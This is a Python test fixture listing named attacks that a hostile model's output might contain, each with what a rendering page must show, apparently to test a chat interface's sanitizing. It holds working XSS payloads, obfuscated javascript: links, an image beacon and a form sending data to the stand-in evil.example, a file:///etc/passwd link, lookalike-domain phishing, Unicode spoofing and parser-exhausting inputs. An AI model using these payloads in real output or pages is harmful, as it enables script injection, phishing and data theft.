"""What a hostile model might say, each attack by name with what the page must show instead."""

from __future__ import annotations

from typing import NamedTuple

_OUT = "https://evil.example"


class Attack(NamedTuple):
    """A text, and its outcome."""

    name: str
    says: str
    shows: tuple[str, ...] = ()
    """Texts that must be readable."""
    links: tuple[str, ...] = ()
    """All addresses that may be opened."""


ATTACKS = (
    Attack("script tag", "<script>window.pwned = 1</script>", ("<script>",)),
    Attack("script tag in a paragraph", "Hello <script>window.pwned = 1</script> world", ("<script>", "world")),
    Attack("script tag, broken up", "<scr<script>ipt>window.pwned=1</scr</script>ipt>", ("ipt>",)),
    Attack("event handler", '<img src=x onerror="window.pwned=1">', ("onerror",)),
    Attack("event handler on details", '<details open ontoggle="window.pwned=1">x</details>', ("ontoggle",)),
    Attack("javascript link", "[click](javascript:window.pwned=1)", ("click", "javascript:")),
    Attack("javascript link in capitals with spaces", "[click](<  JaVaScRiPt:window.pwned=1>)", ("click",)),
    Attack("javascript link with a tab", "[click](java&#x09;script:window.pwned=1)", ("click",)),
    Attack("javascript link by entities", "[click](&#106;avascript&colon;window.pwned=1)", ("click",)),
    Attack("javascript by reference", "[click][1]\n\n[1]: javascript:window.pwned=1", ("click",)),
    Attack("javascript autolink", "<javascript:window.pwned=1>", ("javascript:",)),
    Attack("vbscript link", "[click](vbscript:msgbox)", ("click",)),
    Attack("data link", "[click](data:text/html,<script>window.pwned=1</script>)", ("click",)),
    Attack("blob and file links", "[a](blob:https://x/1) [b](file:///etc/passwd)", ("file:///etc/passwd",)),
    Attack("relative link to the API", "[click](api/keys) [c](/ui/api/forget)", ("click",)),
    Attack("protocol-relative link", "[click](//evil.example/x)", ("click",)),
    Attack("SVG", '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>', ("<svg",)),
    Attack("SVG as data picture", "![x](data:image/svg+xml;base64,PHN2Zy8+)", ("[x]",)),
    Attack("MathML", '<math><maction actiontype="statusline#https://evil.example" href="javascript:window.pwned=1">x</maction></math>', ("<math>",)),
    Attack("link in a formula", r"$\href{javascript:window.pwned=1}{x}$", ()),
    Attack("picture in a formula", r"$\includegraphics{https://evil.example/a.png}$", ()),
    Attack("HTML in a formula", r"$$\text{<img src=x onerror=window.pwned=1>}$$", ()),
    Attack("class and style in a formula", r"$\class{top}{x} \style{position:fixed}{y} \htmlData{a=b}{z}$", ()),
    Attack("endless macro in a formula", r"$\def\a{\a\a}\a$", ()),
    Attack("style tag", "<style>body{display:none}</style>", ("<style>",)),
    Attack("style attribute", '<b style="position:fixed;inset:0">x</b>', ("position:fixed",)),
    Attack("form", f'<form action="{_OUT}"><input name=key><button>OK</button></form>', ("<form",)),
    Attack("iframe", f'<iframe src="{_OUT}" srcdoc="<script>top.pwned=1</script>"></iframe>', ("<iframe",)),
    Attack("object and embed", f'<object data="{_OUT}"></object><embed src="{_OUT}">', ("<object",)),
    Attack("meta refresh", f'<meta http-equiv="refresh" content="0;url={_OUT}">', ("http-equiv",)),
    Attack("base", f'<base href="{_OUT}/">', ("<base",)),
    Attack("link tag", f'<link rel=stylesheet href="{_OUT}/x.css">', ("<link",)),
    Attack("HTML by entities", "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;", ("<script>", "<img")),
    Attack("link text names another site", "[https://bank.example](https://evil.example/login)", ("(leads to evil.example)",), (f"{_OUT}/login",)),
    Attack("link with a name before the host", "[bank](https://bank.example@evil.example/)", ("(leads to evil.example)",), ("https://bank.example@evil.example/",)),
    Attack("link with a lookalike host", "[www.аpple.com](https://www.аpple.com/)", ("(leads to www.xn--pple-43d.com)",), ("https://www.xn--pple-43d.com/",)),
    Attack("picture as a beacon", f"![chart]({_OUT}/beacon.png?d=secret)", ("chart", "not loaded"), (f"{_OUT}/beacon.png?d=secret",)),
    Attack("picture inside a link", f"[![chart]({_OUT}/b.png)](https://evil.example/)", ("chart",), ()),
    Attack("picture by reference", f"![chart][b]\n\n[b]: {_OUT}/c.png", ("not loaded",), (f"{_OUT}/c.png",)),
    Attack("title that leaves its attribute", '[a](https://ok.example "\\" onmouseover=\\"window.pwned=1")', ("a",), ("https://ok.example/",)),
    Attack("address that leaves its attribute", '[a](https://ok.example/"onmouseover="window.pwned=1)', ("a",), ("https://ok.example/%22onmouseover=%22window.pwned=1",)),
    Attack("nested code fences", "````\n```html\n<script>window.pwned=1</script>\n```\n````", ("<script>", "```html")),
    Attack("fence that is never closed", "```js\n</code></pre><script>window.pwned=1</script>", ("<script>",)),
    Attack("language that leaves its class", '```js"onload="window.pwned=1\nlet a = 1\n```', ("let a = 1",)),
    Attack("code that breaks out of highlighting", "```html\n</span><script>window.pwned=1</script>\n```", ("</span>",)),
    Attack("comment and CDATA", "<!--><script>window.pwned=1</script>--> <![CDATA[<script>window.pwned=1</script>]]>", ()),
    Attack("right-to-left override", "Open invoice\u202efdp.exe now", ("U+202E",)),
    Attack("isolates in code", "```c\nif (is_user\u2066) { // admin\u2069\n```", ("U+2066", "U+2069")),
    Attack("hidden tag characters", "Hello\U000e0049\U000e0067 there", ("U+E0049",)),
    Attack("null and controls", "a\x00b\x07c", ()),
    Attack("prototype names", "[__proto__]: https://a.example\n\n[constructor] __proto__ `toString`", ("constructor",)),
    Attack("name of an element that the page uses", '<div id="app"></div><a name="main">x</a>', ("id=",)),
    Attack("template syntax", "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}", ("constructor",)),
    Attack("quotes nested a thousand deep", ">" * 1000 + " deep", ("deep",)),
    Attack("lists nested deep", "\n".join(f"{'  ' * depth}- x{depth}" for depth in range(200)), ("x0", "x199")),
    Attack("emphasis by the thousand", "*a_" * 3000, ("a",)),
    Attack("brackets by the thousand", "[" * 5000 + "](", ()),
    Attack("huge table", "|a|b|\n|-|-|\n" + "|1|2|\n" * 5000, ("Show 2,000 more of 5,000 rows",)),
    Attack("wide table", "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n", ("440 more columns",)),
    Attack("long word", "x" * 20_000, ()),
    Attack("very long text", "word " * 70_000, ("shown without formatting",)),
)  # fmt: skip
